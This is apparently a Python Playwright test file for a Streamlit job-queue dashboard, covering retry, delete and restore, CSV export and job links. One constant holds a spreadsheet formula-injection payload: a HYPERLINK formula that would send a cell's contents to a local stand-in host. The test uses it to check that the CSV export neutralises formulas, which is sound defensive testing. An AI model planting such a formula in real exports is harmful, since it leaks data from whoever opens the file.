"""The Failed jobs page in a real browser: retry, delete + restore, CSV download, job links.

The tables are canvases: a row is ticked through the grid's accessible cells (`tick_row`).
"""

from __future__ import annotations

import csv
import io
from urllib.parse import urljoin

import psycopg
from playwright.sync_api import Locator, Page, expect

from tests.actions_helpers import job_status, make_failed_jobs
from tests.browser.conftest import wait_for_script_idle
from tests.dashboard_data import add_job

HYPERLINK = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"click")'
TIMEOUT_MS = 30_000


def open_app(page: Page, base_url: str, path: str = "") -> None:
    page.set_viewport_size({"width": 1400, "height": 1000})
    # Straight to the page: the first visit of a fresh server may be a deep link (`?job=ID`).
    page.goto(f"{base_url}/{path}")
    wait_for_script_idle(page)


def tick_row(page: Page, row: int, selected_button: str, grid_index: int = 0) -> None:
    """Tick the checkbox (second column, after the job) of the `row`-th data row (0 = first)
    of a data editor grid, until the button `selected_button` (e.g. "Retry selected (1)")
    shows the page saw it.

    The grid is a canvas, but it keeps an accessible table beside it whose cells say
    "true"/"false": focus that cell and press Space — no coordinates, and the cell's text tells
    whether a tick landed (ticking again would untick it).
    """
    grid = page.locator("[data-testid='stDataFrame']").nth(grid_index)
    cell = grid.locator(f"[data-testid='glide-cell-1-{row}']")
    button = page.get_by_role("button", name=selected_button)
    for _ in range(3):
        wait_for_script_idle(page)
        if cell.text_content(timeout=TIMEOUT_MS) != "true":
            cell.focus()
            page.keyboard.press("Space")
        try:
            expect(button).to_be_visible(timeout=15_000)
            return
        except AssertionError:
            continue
    expect(button).to_be_visible(timeout=1)


def fetch_csv_link(page: Page, link: Locator) -> tuple[str, list[list[str]]]:
    """What a "Download CSV" link serves: its attachment file name and parsed rows.

    The link opens the streaming export route in a new tab; fetching its href with the
    page's own request context checks the same response without chasing a popup.
    """
    expect(link).to_be_visible(timeout=TIMEOUT_MS)
    href = link.get_attribute("href")
    assert href
    response = page.request.get(urljoin(page.url, href))
    assert response.ok, response.text()
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    file_name = disposition.split('filename="')[1].rstrip('"')
    return file_name, list(csv.reader(io.StringIO(response.body().decode("utf-8"))))


def view_switch(page: Page, name: str) -> None:
    page.locator("[data-testid='stButtonGroup']").get_by_text(name, exact=True).click()


def toast(page: Page, text: str):
    return page.locator("[data-testid='stToast']").filter(has_text=text)


def test_retry_delete_restore_and_csv_through_the_ui(
    page: Page, streamlit_server, database_url: str, conn: psycopg.Connection
) -> None:
    [oldest] = make_failed_jobs(conn, 1, message=HYPERLINK, note=HYPERLINK)
    [middle] = make_failed_jobs(conn, 1, message="middle failure")
    [newest] = make_failed_jobs(conn, 1, message="newest failure")
    base_url = streamlit_server(database_url)
    open_app(page, base_url, "failed_jobs")
    expect(page.get_by_text("3 failed jobs match")).to_be_visible(timeout=TIMEOUT_MS)

    # Retry one job (newest first: row 0): no confirmation for a single job.
    retry = page.get_by_role("button", name="Retry selected (0)")
    expect(retry).to_be_disabled()
    tick_row(page, 0, "Retry selected (1)")
    page.get_by_role("button", name="Retry selected (1)").click()
    expect(toast(page, "Retried 1 job")).to_be_visible(timeout=TIMEOUT_MS)
    expect(page.get_by_text("2 failed jobs match")).to_be_visible(timeout=TIMEOUT_MS)
    assert job_status(conn, newest) == "todo"
    expect(page.get_by_role("button", name="Retry selected (0)")).to_be_visible()

    # Delete one (now row 0 is `middle`): the dialog names exactly that job.
    tick_row(page, 0, "Delete selected (1)")
    page.get_by_role("button", name="Delete selected (1)").click()
    dialog = page.locator("[data-testid='stDialog']")
    expect(dialog.get_by_text(f"Delete exactly 1 job: {middle}")).to_be_visible(timeout=TIMEOUT_MS)
    assert job_status(conn, middle) == "failed"  # nothing happens before confirming
    dialog.get_by_role("button", name="Delete 1 job").click()
    expect(toast(page, "Deleted 1 job")).to_be_visible(timeout=TIMEOUT_MS)
    expect(page.get_by_text("1 failed jobs match")).to_be_visible(timeout=TIMEOUT_MS)
    assert job_status(conn, middle) is None

    # Restore it from "Recently deleted".
    view_switch(page, "Recently deleted")
    expect(page.get_by_text("1 recently deleted jobs", exact=False)).to_be_visible(
        timeout=TIMEOUT_MS
    )
    tick_row(page, 0, "Restore selected (1)")
    page.get_by_role("button", name="Restore selected (1)").click()
    expect(toast(page, "Restored 1 job")).to_be_visible(timeout=TIMEOUT_MS)
    assert job_status(conn, middle) == "failed"

    # Download the CSV of every failed job matching the (empty) filter.
    view_switch(page, "Failed")
    expect(page.get_by_text("2 failed jobs match")).to_be_visible(timeout=TIMEOUT_MS)
    wait_for_script_idle(page)
    file_name, rows = fetch_csv_link(page, page.get_by_role("link", name="Download CSV"))
    assert file_name.startswith("failed-jobs-") and file_name.endswith("Z.csv")
    header, data = rows[0], rows[1:]
    assert header[:3] == ["id", "queue", "task"]
    by_id = {int(r[0]): dict(zip(header, r, strict=True)) for r in data}
    assert sorted(by_id) == sorted([oldest, middle])
    assert by_id[oldest]["error_message"] == "'" + HYPERLINK  # neutralised, not a formula
    assert HYPERLINK.replace('"', '\\"') in by_id[oldest]["args"]  # inside JSON text
    assert by_id[middle]["error_message"] == "middle failure"
    assert by_id[middle]["failed_at"].endswith("Z")
    assert page.locator("[data-testid='stException']").count() == 0


def test_dashboard_links_open_the_management_page_and_the_job(
    page: Page, streamlit_server, database_url: str, conn: psycopg.Connection
) -> None:
    ids = make_failed_jobs(conn, 55, message="link me")
    job_id = ids[-1]
    base_url = streamlit_server(database_url)
    open_app(page, base_url)

    # The panel lists 50; its CSV has every failed job.
    file_name, rows = fetch_csv_link(page, page.get_by_role("link", name="Download CSV"))
    assert file_name.startswith("failed-jobs-")
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(ids)
    link = page.get_by_role("link", name="Manage failed jobs →")
    expect(link).to_be_visible(timeout=TIMEOUT_MS)
    link.click()
    page.wait_for_url(f"{base_url}/failed_jobs", timeout=TIMEOUT_MS)
    expect(page.get_by_text("55 failed jobs match")).to_be_visible(timeout=TIMEOUT_MS)

    # The panel's job links are "./failed_jobs?job=ID", relative to the dashboard's URL.
    target = page.evaluate(
        "([base, link]) => new URL(link, base + '/').href",
        [base_url, f"./failed_jobs?job={job_id}"],
    )
    page.goto(target)
    wait_for_script_idle(page)
    expect(page.get_by_role("heading", name=f"Job {job_id}")).to_be_visible(timeout=TIMEOUT_MS)
    expect(page.get_by_text("ValueError: link me")).to_be_visible()
    page.get_by_role("button", name="Retry").click()
    expect(toast(page, "Retried 1 job")).to_be_visible(timeout=TIMEOUT_MS)
    assert job_status(conn, job_id) == "todo"


def test_retry_stalled_from_the_worker_health_panel(
    page: Page, streamlit_server, database_url: str, conn: psycopg.Connection
) -> None:
    stalled = [add_job(conn, final_status="doing") for _ in range(2)]  # no worker holds them
    base_url = streamlit_server(database_url)
    open_app(page, base_url)
    page.get_by_role("button", name="Retry stalled (2)").click()
    dialog = page.locator("[data-testid='stDialog']")
    expect(
        dialog.get_by_text(f"Retry exactly 2 stalled jobs: {stalled[0]}, {stalled[1]}.")
    ).to_be_visible(timeout=TIMEOUT_MS)
    dialog.get_by_role("button", name="Retry 2").click()
    expect(toast(page, "Retried stalled 2 jobs")).to_be_visible(timeout=TIMEOUT_MS)
    assert [job_status(conn, job_id) for job_id in stalled] == ["todo", "todo"]
    expect(page.get_by_role("button", name="Retry stalled (2)")).to_have_count(0)
